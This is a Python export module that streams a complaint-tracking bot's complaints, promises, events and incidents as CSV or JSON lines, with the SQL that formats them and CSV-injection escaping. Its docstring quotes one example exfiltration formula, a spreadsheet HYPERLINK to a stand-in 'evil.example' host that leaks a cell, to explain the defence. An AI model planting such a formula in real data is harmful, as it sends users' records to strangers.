"""``followthrough export``: complaints, promises, events or incidents as CSV or JSON lines, streamed.

Column names are part of the interface — a team's BI tool or spreadsheet is built on them — so they
are listed here once, in order, and only ever added to at the end.

Times are ISO 8601 in UTC, to the microsecond (``2026-03-02T09:00:00.000000+00:00``); booleans are
``True``/``False`` in CSV and ``true``/``false`` in JSON; an empty value is an empty CSV field and
``null`` in JSON. ``--since``/``--until`` are dates in the team's time zone (TEAM_TIMEZONE);
``--until`` includes that whole day. Rows are chosen by when they began: a complaint by when it was
stored, a promise by when it was made, an event by when it happened, an incident by when it was
detected.

The database writes every line. A million events must export at tens of thousands of rows a second
on a shared core, and any per-row work in Python (building tuples, formatting fields, encoding JSON)
cost more than the database's own reading: so PostgreSQL's ``COPY … (FORMAT csv)`` writes the CSV,
SQL string functions build the CSV lines on SQLite and the JSON lines on both (``json_quote``,
``to_json``: the same escapes, byte for byte, as Python's ``json``), and Python only moves bytes, a
batch at a time. CSV quoting is RFC 4180's, as PostgreSQL's COPY and Python's ``csv`` (3.11.9 on)
write it: a field with a comma, a double quote, a line feed or a carriage return is quoted.

A CSV is opened in a spreadsheet more often than not, and a spreadsheet runs a cell that starts
with ``=``, ``+``, ``-`` or ``@`` as a formula: a customer's post reading
``=HYPERLINK("https://evil.example/?leak="&A1,"Click for refund")`` would become a link that sends
the row to a stranger. So by default every text cell is made safe as OWASP's CSV-injection rule says:
a leading ``=``, ``+``, ``-``, ``@``, tab or carriage return gets a ``'`` in front (the spreadsheet
shows the text, not a formula), and NUL and the other control characters (not tab, line feed or
carriage return) are removed. ``--raw`` writes the stored bytes for pipelines that read CSV as data.
JSON lines are never changed: a JSON reader does not evaluate anything.

The rows come from one statement: one consistent snapshot, and on SQLite a plain read that never
holds the write lock, so a long export does not stall the running bot. Nothing is read whole: a
server-side cursor or COPY stream on PostgreSQL, SQLite's stepping cursor, so memory stays flat.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from contextlib import closing
from datetime import UTC, date, datetime, time, timedelta
from operator import itemgetter
from typing import IO, TYPE_CHECKING, Any, NamedTuple
from zoneinfo import ZoneInfo

if TYPE_CHECKING:
    from sqlalchemy import Engine

BATCH = 5000


class Column(NamedTuple):
    """One exported column: the stored column it comes from and how its value is written."""

    sql: str
    kind: str  # one of INT, TEXT, BOOL, TIME, JSON
    pg: str | None = None
    """PostgreSQL's expression, where the engines' SQL differs (JSON functions, time arithmetic)."""


INT, TEXT, BOOL, TIME, JSON = "int", "text", "bool", "time", "json"

COMPLAINT_COLUMNS = {
    "id": Column("c.id", INT),
    "network": Column("c.source", TEXT),
    "post_id": Column("c.external_id", TEXT),
    "url": Column("c.url", TEXT),
    "customer_handle": Column("c.author_handle", TEXT),
    "customer_followers": Column("c.author_followers", INT),
    "posted_at": Column("c.posted_at", TIME),
    "received_at": Column("c.created_at", TIME),
    "kind": Column("c.kind", TEXT),
    "status": Column("c.status", TEXT),
    "priority": Column("c.priority", INT),
    "owner": Column("c.owner_id", TEXT),
    "claimed_at": Column("c.claimed_at", TIME),
    "escalation_tier": Column("c.escalation_tier", TEXT),
    "resolved_at": Column("c.resolved_at", TIME),
    "resolved_by": Column("c.resolved_by", TEXT),
    "customer_confirmed": Column("c.customer_confirmed", BOOL),
    "folded_into": Column("c.duplicate_of", INT),
    "replies": Column("c.reply_count", INT),
    "retweets": Column("c.amplification_count", INT),
    "language": Column("c.lang", TEXT),
    "text": Column("c.text", TEXT),
    "owner_name": Column("so.name", TEXT),
}
PROMISE_COLUMNS = {
    "id": Column("p.id", INT),
    "complaint_id": Column("p.complaint_id", INT),
    "network": Column("c.source", TEXT),
    "owner": Column("p.owner_id", TEXT),
    "made_by": Column("p.created_by", TEXT),
    "made_at": Column("p.created_at", TIME),
    "due_at": Column("p.due_at", TIME),
    "status": Column("p.status", TEXT),
    "rescheduled": Column("p.reschedule_count", INT),
    "closed_at": Column("p.closed_at", TIME),
    "closed_by": Column("p.closed_by", TEXT),
    "text": Column("p.text", TEXT),
    "owner_name": Column("so.name", TEXT),
}
EVENT_COLUMNS = {
    "id": Column("e.id", INT),
    "at": Column("e.at", TIME),
    "kind": Column("e.action", TEXT),
    "actor": Column("e.actor", TEXT),
    "complaint_id": Column("e.complaint_id", INT),
    "promise_id": Column("e.promise_id", INT),
    "from_status": Column("e.from_status", TEXT),
    "to_status": Column("e.to_status", TEXT),
    "note": Column("e.note", TEXT),
    "details": Column("e.details", JSON),
}
"""``details`` is the event's typed details as a JSON object (see ``bot/history/events.py``), written
as stored: spliced into a JSON line as an object, not re-encoded."""


def _sqlite_seconds(start: str, end: str) -> str:
    """Whole seconds from ``start`` to ``end``, rounded, exact to the microsecond before rounding:
    SQLite stores 'YYYY-MM-DD HH:MM:SS.ffffff', and its own ``strftime('%s')`` rounds a time to the
    millisecond first, so the seconds and the microseconds are read apart."""

    def parts(e: str) -> tuple[str, str]:
        return f"CAST(strftime('%s', substr({e}, 1, 19)) AS INTEGER)", f"CAST(substr({e}, 21, 6) AS INTEGER)"

    (s1, us1), (s2, us2) = parts(start), parts(end)
    return f"CAST(round(({s2} - {s1}) + ({us2} - {us1}) / 1000000.0) AS INTEGER)"


def _pg_seconds(start: str, end: str) -> str:
    # numeric, so that a half second rounds away from zero as SQLite's round() does
    return f"CAST(round(CAST(extract(epoch FROM ({end} - {start})) AS numeric)) AS bigint)"


_UPDATES = "FROM incident_updates u WHERE u.incident_id = i.id"
INCIDENT_COLUMNS = {
    "id": Column("i.id", INT),
    "status": Column("i.status", TEXT),
    "title": Column("i.title", TEXT),
    "detected_at": Column("i.detected_at", TIME),
    "threshold_post_at": Column("i.threshold_post_at", TIME),
    "first_post_at": Column("i.first_post_at", TIME),
    "latest_post_at": Column("i.latest_post_at", TIME),
    "first_update_at": Column("i.first_update_at", TIME),
    "resolved_at": Column("i.resolved_at", TIME),
    "customers": Column("i.customers", INT),
    "posts": Column("i.posts", INT),
    "reach": Column("i.reach", INT),
    "networks": Column(
        "(SELECT group_concat(value, ';') FROM (SELECT value FROM json_each(i.networks) ORDER BY key))",
        TEXT,
        pg="(CASE WHEN json_typeof(i.networks) = 'array' THEN (SELECT string_agg(n.value, ';' ORDER BY n.at) "
        "FROM json_array_elements_text(i.networks) WITH ORDINALITY AS n(value, at)) END)",
    ),
    "owner_id": Column("(CASE WHEN a.id IS NULL THEN i.owner_id ELSE a.owner_id END)", TEXT),
    "resolved_by": Column("i.resolved_by", TEXT),
    "merged_into": Column("i.merged_into", INT),
    "updates": Column(f"(SELECT count(*) {_UPDATES})", INT),
    "unreachable": Column(
        f"(SELECT COALESCE(sum(json_array_length(u.unreachable)), 0) {_UPDATES})",
        INT,
        pg="(SELECT COALESCE(sum(CASE WHEN json_typeof(u.unreachable) = 'array' "
        f"THEN json_array_length(u.unreachable) ELSE 0 END), 0) {_UPDATES})",
    ),
    "seconds_to_detect": Column(
        _sqlite_seconds("i.threshold_post_at", "i.detected_at"),
        INT,
        pg=_pg_seconds("i.threshold_post_at", "i.detected_at"),
    ),
    "seconds_to_first_update": Column(
        _sqlite_seconds("i.first_post_at", "i.first_update_at"),
        INT,
        pg=_pg_seconds("i.first_post_at", "i.first_update_at"),
    ),
    "seconds_to_resolve": Column(
        _sqlite_seconds("i.first_post_at", "i.resolved_at"), INT, pg=_pg_seconds("i.first_post_at", "i.resolved_at")
    ),
}
"""One row per incident. ``networks``: the networks its customers posted on, joined with ``;``.
``owner_id``: its anchor complaint's owner (the incident card's Claim claims the anchor).
``updates``: the updates and the resolution sent to its customers; ``unreachable``: the customers
each of them could not be sent to from here, summed — the replies the team had to write by hand
on the customers' networks. The ``seconds_to_*`` are whole seconds, rounded: to detect is from the
post with which the topic crossed the threshold to the detection; to the first update (the first
public reply of an update reaching a customer) and to resolve are from the incident's first post.
Empty until it happened."""

WHAT = {
    "complaints": COMPLAINT_COLUMNS,
    "promises": PROMISE_COLUMNS,
    "events": EVENT_COLUMNS,
    "incidents": INCIDENT_COLUMNS,
}


class Source(NamedTuple):
    """Where a kind of row is read from: the driving table (with its alias), any join, the time a
    row is chosen by, and its key, which orders the rows (stable from one export to the next)."""

    table: str
    join: str
    when: str
    key: str


SOURCES = {
    # ``owner_name``: the name Slack gave for the owner when the bot last looked them up (its cache).
    "complaints": Source("complaints c", "LEFT JOIN slack_users so ON so.user_id = c.owner_id", "c.created_at", "c.id"),
    "promises": Source(
        "promises p",
        "JOIN complaints c ON c.id = p.complaint_id LEFT JOIN slack_users so ON so.user_id = p.owner_id",
        "p.created_at",
        "p.id",
    ),
    "events": Source("audit_events e", "", "e.at", "e.id"),
    "incidents": Source("incidents i", "LEFT JOIN complaints a ON a.id = i.anchor_id", "i.detected_at", "i.id"),
}
FORMATS = ("csv", "jsonl")

_NEEDS_QUOTES = "'*[,\"\n\r]*'"  # a GLOB class: comma, double quote, line feed, carriage return

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""What a spreadsheet may read as the start of a formula (OWASP, CSV injection)."""
_CONTROL_CODES = [*range(1, 9), 11, 12, *range(14, 32), 127]
"""Control characters removed from a safe CSV cell (NUL too; tab, line feed and carriage return stay)."""
_CONTROL = re.compile("[\\x00" + "".join(f"\\x{c:02x}" for c in _CONTROL_CODES) + "]")
SQLITE_CELL = "followthrough_cell"
"""The SQLite function that makes a cell safe: called only for the rare cell that needs it."""
_SQL_QUOTE = "''''"
"""A single quote, as an SQL string literal."""


def spreadsheet_safe(value: str | None) -> str | None:
    """A cell a spreadsheet shows as text: control characters out, a formula's first character
    escaped with ``'``."""
    if value is None:
        return None
    value = _CONTROL.sub("", value)
    return "'" + value if value.startswith(FORMULA_STARTS) else value


def _starts(char: Callable[[int], str]) -> str:
    return ", ".join(char(ord(c)) if c in "\t\r" else f"'{c}'" for c in FORMULA_STARTS)


def _sqlite_safe(text: str) -> str:
    controls = "char(" + ",".join(map(str, _CONTROL_CODES)) + ")"
    return (
        f"CASE WHEN substr({text}, 1, 1) IN ({_starts(lambda n: f'char({n})')}) OR instr({text}, char(0)) > 0 "
        f"OR {text} GLOB '*[' || {controls} || ']*' THEN {SQLITE_CELL}({text}) ELSE {text} END"
    )


def _pg_safe(text: str) -> str:
    controls = " || ".join(f"chr({c})" for c in _CONTROL_CODES)  # PostgreSQL's text never holds a NUL
    clean = f"translate({text}, {controls}, '')"
    starts = _starts(lambda n: f"chr({n})")
    return f"CASE WHEN left({clean}, 1) IN ({starts}) THEN {_SQL_QUOTE} || {clean} ELSE {clean} END"


def _sqlite_time(e: str) -> str:
    # Stored by SQLAlchemy as naive UTC text, 'YYYY-MM-DD HH:MM:SS.ffffff'.
    return f"(replace({e}, ' ', 'T') || '+00:00')"


def _pg_time(e: str) -> str:
    return f"""(to_char(timezone('UTC', {e}), 'YYYY-MM-DD"T"HH24:MI:SS.US') || '+00:00')"""


def _sqlite_csv_field(column: Column, *, raw: bool = False) -> str:
    e = column.sql
    if column.kind == INT:
        return f"COALESCE(CAST({e} AS TEXT), '')"
    if column.kind == TIME:
        return f"COALESCE({_sqlite_time(e)}, '')"
    if column.kind == BOOL:
        return f"CASE WHEN {e} IS NULL THEN '' WHEN {e} THEN 'True' ELSE 'False' END"
    text = f"CAST({e} AS TEXT)" if column.kind == JSON else e
    if not raw:
        text = f"({_sqlite_safe(text)})"
    return (
        f"CASE WHEN {text} GLOB {_NEEDS_QUOTES} THEN '\"' || replace({text}, '\"', '\"\"') || '\"' "
        f"ELSE COALESCE({text}, '') END"
    )


def _sqlite_json_value(column: Column) -> str:
    e = column.sql
    if column.kind == TIME:
        return f"json_quote({_sqlite_time(e)})"
    if column.kind == BOOL:
        return f"CASE WHEN {e} IS NULL THEN 'null' WHEN {e} THEN 'true' ELSE 'false' END"
    if column.kind == JSON:
        return f"COALESCE(NULLIF(CAST({e} AS TEXT), ''), 'null')"
    return f"json_quote({e})"  # an integer as a number, text as a string, NULL as null


def _pg_csv_field(column: Column, *, raw: bool = False) -> str:
    """A value for COPY's CSV: it quotes an empty string to tell it from NULL, which Python's ``csv``
    never did, so an empty string goes out as NULL (an empty field either way)."""
    e = column.pg or column.sql
    if column.kind == INT:
        return e
    if column.kind == TIME:
        return _pg_time(e)
    if column.kind == BOOL:
        return f"CASE WHEN {e} THEN 'True' WHEN NOT {e} THEN 'False' END"
    text = f"CAST({e} AS text)"
    return f"NULLIF({text if raw else _pg_safe(text)}, '')"


def _pg_json_value(column: Column) -> str:
    e = column.pg or column.sql
    if column.kind == INT:
        return f"COALESCE(CAST({e} AS text), 'null')"
    if column.kind == TIME:
        return f"COALESCE(CAST(to_json({_pg_time(e)}) AS text), 'null')"
    if column.kind == BOOL:
        return f"CASE WHEN {e} THEN 'true' WHEN NOT {e} THEN 'false' ELSE 'null' END"
    if column.kind == JSON:
        return f"COALESCE(NULLIF(CAST({e} AS text), ''), 'null')"
    return f"COALESCE(CAST(to_json(CAST({e} AS text)) AS text), 'null')"


def _json_line(columns: dict[str, Column], value: Callable[[Column], str], newline: str) -> str:
    """The SQL for one JSON line: keys in column order, separated as Python's ``json`` does."""
    parts = []
    for i, (name, column) in enumerate(columns.items()):
        key = ("{" if i == 0 else ", ") + f'"{name}": '
        parts.append(f"'{key}' || {value(column)}")
    return " || ".join(parts) + f" || '}}' || {newline}"


def query(what: str, fmt: str, dialect: str, *, by_key: bool = False, raw: bool = False) -> str:
    """The statement whose rows are the export: on SQLite and for JSON lines each row is one finished
    line; for CSV on PostgreSQL, the fields COPY quotes. ``by_key`` (SQLite): read the driving table
    in key order over a key range, rather than through the time index and then sorted."""
    columns = WHAT[what]
    source = SOURCES[what]
    if dialect == "postgresql":
        if fmt == "csv":
            select = ", ".join(_pg_csv_field(c, raw=raw) for c in columns.values())
        else:
            select = _json_line(columns, _pg_json_value, "chr(10)")
        tables = f"{source.table} {source.join}"
        where = f"{source.when} >= %s AND {source.when} < %s"
        return f"SELECT {select} FROM {tables} WHERE {where} ORDER BY {source.key}"  # noqa: S608 - constants only
    if fmt == "csv":
        line = " || ',' || ".join(_sqlite_csv_field(c, raw=raw) for c in columns.values()) + " || char(10)"
    else:
        line = _json_line(columns, _sqlite_json_value, "char(10)")
    tables = f"{source.table} {'NOT INDEXED' if by_key else ''} {source.join}"
    where = f"{source.when} >= ? AND {source.when} < ?"
    if by_key:
        where = f"{source.key} BETWEEN ? AND ? AND {where}"
    # A BLOB is the line's UTF-8 bytes as stored: nothing to decode and encode again in Python.
    return f"SELECT CAST({line} AS BLOB) FROM {tables} WHERE {where} ORDER BY {source.key}"  # noqa: S608


def span_query(what: str) -> str:
    """How many rows the window holds and their lowest and highest key: read from the time index
    alone (it holds the key too), without touching the rows."""
    source = SOURCES[what]
    where = f"{source.when} >= ? AND {source.when} < ?"
    return f"SELECT count(*), min({source.key}), max({source.key}) FROM {source.table} WHERE {where}"  # noqa: S608


DENSE = 1 / 16
"""Read by key range when at least this share of the range is in the window. Rows are stored in
time order (ids are given as they happen), so the window is nearly always the whole of its range;
imported or back-dated rows can spread it, and then the index and a sort cost less than the scan."""


def _sqlite_rows(
    raw: Any, what: str, fmt: str, start: datetime, end: datetime, *, as_stored: bool = False
) -> Iterator[tuple[bytes, int]]:
    """Batches of finished lines, read in one snapshot.

    SQLite's planner knows nothing of how many rows a time range holds, so it always reads the time
    index and then sorts every row by id before the first is written (half the export's time at
    200,000 events, in temporary files). The window's key range is read from the index first; unless
    the window is only a sliver of that range (``DENSE``), the range is read straight through in key
    order, already sorted, and the first lines go out at once.

    The connection is in autocommit mode (see ``bot.store.engine``), so ``BEGIN`` here is a deferred,
    read-only transaction, not the ``BEGIN IMMEDIATE`` every SQLAlchemy transaction on SQLite takes:
    the write lock is never held, and the bot keeps writing while an export runs.
    """
    stamp = "%Y-%m-%d %H:%M:%S.%f"  # how SQLAlchemy stores a UTC time on SQLite
    window = (start.astimezone(UTC).strftime(stamp), end.astimezone(UTC).strftime(stamp))
    raw.driver_connection.create_function(SQLITE_CELL, 1, spreadsheet_safe, deterministic=True)
    cursor = raw.cursor()
    cursor.execute("BEGIN")
    try:
        count, low, high = cursor.execute(span_query(what), window).fetchone()
        if not count:
            return
        if count >= DENSE * (high - low + 1):
            cursor.execute(query(what, fmt, "sqlite", by_key=True, raw=as_stored), (low, high, *window))
        else:
            cursor.execute(query(what, fmt, "sqlite", raw=as_stored), window)
        while batch := cursor.fetchmany(BATCH):
            yield b"".join(map(itemgetter(0), batch)), len(batch)
    finally:
        cursor.execute("ROLLBACK")
        cursor.close()


def _pg_rows(raw: Any, sql: str, fmt: str, start: datetime, end: datetime) -> Iterator[tuple[bytes, int]]:
    conn = raw.driver_connection  # the psycopg connection: COPY and named cursors are psycopg's own
    try:
        # COPY's bytes go to the file as they come, in the connection's encoding (PGCLIENTENCODING,
        # or the database's own): an export is UTF-8 whatever that is.
        conn.execute("SET LOCAL client_encoding = 'UTF8'")
        if fmt == "csv":
            copy_sql = f"COPY ({sql}) TO STDOUT WITH (FORMAT csv)"
            with conn.cursor() as cursor, cursor.copy(copy_sql, (start, end)) as copy:
                chunks: list[Any] = []
                for data in copy:  # one row each: libpq hands COPY data over a whole row at a time
                    chunks.append(data)
                    if len(chunks) == BATCH:
                        yield b"".join(chunks), len(chunks)
                        chunks.clear()
                if chunks:
                    yield b"".join(chunks), len(chunks)
            return
        # A cursor's plan is chosen for its first tenth by default; an export reads it all.
        conn.execute("SET LOCAL cursor_tuple_fraction = 1.0")
        with conn.cursor(name="followthrough_export") as cursor:
            cursor.execute(sql, (start, end))
            while batch := cursor.fetchmany(BATCH):
                yield "".join(map(itemgetter(0), batch)).encode(), len(batch)
    finally:
        conn.rollback()  # nothing was written; end the read transaction


def write(
    engine: Engine, out: IO[bytes], *, what: str, fmt: str, start: datetime, end: datetime, raw: bool = False
) -> int:
    """Stream the export to ``out``; return how many rows were written (the header is not one).
    ``raw``: CSV cells as stored, not made safe for a spreadsheet."""
    if fmt == "csv":
        out.write((",".join(WHAT[what]) + "\n").encode())
    connection = engine.raw_connection()
    try:
        if engine.dialect.name == "postgresql":
            batches = _pg_rows(connection, query(what, fmt, "postgresql", raw=raw), fmt, start, end)
        else:
            batches = _sqlite_rows(connection, what, fmt, start, end, as_stored=raw)
        n = 0
        with closing(batches):  # a failed write ends the read here, before the connection goes back
            for data, count in batches:
                out.write(data)
                n += count
        return n
    finally:
        connection.close()


def window(since: date, until: date | None, tz: str) -> tuple[datetime, datetime]:
    zone = ZoneInfo(tz)
    start = datetime.combine(since, time(0), tzinfo=zone)
    end_day = (until or date.max - timedelta(days=1)) + timedelta(days=1)
    return start, datetime.combine(end_day, time(0), tzinfo=zone)


def export(
    engine: Engine,
    out: IO[bytes],
    *,
    what: str,
    fmt: str,
    since: date,
    until: date | None,
    tz: str,
    raw: bool = False,
) -> int:
    start, end = window(since, until, tz)
    return write(engine, out, what=what, fmt=fmt, start=start, end=end, raw=raw)
